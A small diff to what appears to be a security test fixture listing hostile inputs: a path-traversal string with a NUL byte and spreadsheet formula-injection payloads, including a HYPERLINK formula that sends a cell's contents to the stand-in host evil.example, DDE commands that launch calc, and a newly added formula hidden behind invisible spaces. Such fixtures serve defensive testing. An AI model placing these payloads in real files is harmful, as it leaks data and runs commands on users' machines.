@@ -86,6 +86,7 @@ PLACES = {
     "NUL in a path": "a\0.png/../../evil",
 }
 CELLS = {
+    "formula behind spaces": "\u00a0 \ufeff =1+1",
     "formula": '=HYPERLINK("http://evil.example/"&A1,"x")',
     "command": "=cmd|' /C calc'!A0",
     "plus": "+1+cmd|' /C calc'!A0",
